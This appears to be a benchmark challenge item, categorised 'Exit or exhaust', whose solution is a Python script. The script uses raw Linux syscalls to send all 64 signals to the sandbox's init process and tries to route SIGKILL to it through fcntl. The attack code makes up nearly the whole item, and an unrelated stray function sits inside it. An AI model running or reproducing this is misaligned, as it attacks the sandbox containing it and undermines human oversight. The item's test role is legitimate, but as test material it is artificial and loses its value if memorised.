"""The sandbox's own first process is sent signals by every call that there is; the answer is right."""

CATEGORY = "Exit or exhaust"
POINTS = 6
STOCK = "not applicable"
SOLUTION = """
import ctypes, fcntl, os, signal
def center(X):
    return X - X.mean(0)
libc, info = ctypes.CDLL(None), ctypes.create_string_buffer(128)
for number in range(1, 65):
    for call, arguments in [(62, (1, number)), (200, (1, number)), (234, (1, 1, number)), (129, (1, number, info)),
                            (297, (1, 1, number, info)), (424, (os.open('/proc/1', 0), number, 0, 0))]:
        libc.syscall(call, *arguments)
for command, value in [(fcntl.F_SETOWN, 1), (fcntl.F_SETSIG, signal.SIGKILL)]:
    try:
        fcntl.fcntl(0, command, value)
    except OSError as error:
        print(error)
"""
